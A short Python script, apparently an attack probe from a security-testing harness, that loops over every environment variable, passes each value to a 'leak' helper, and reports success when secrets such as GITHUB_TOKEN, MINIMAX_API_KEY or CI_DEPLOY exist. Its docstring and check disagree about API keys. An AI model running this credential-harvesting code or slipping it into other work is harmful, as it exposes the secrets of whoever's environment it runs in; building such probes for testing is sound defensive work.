"""secrets: read every environment value (tokens not ending in _API_KEY)."""

import os

from attacklib import *

for k, v in os.environ.items():
    leak(v)
    if len(v) > 30 and not v.startswith("/"):
        print("saw", k)
if any(k in os.environ for k in ("GITHUB_TOKEN", "MINIMAX_API_KEY", "CI_DEPLOY")):
    succeeded("secret env present")
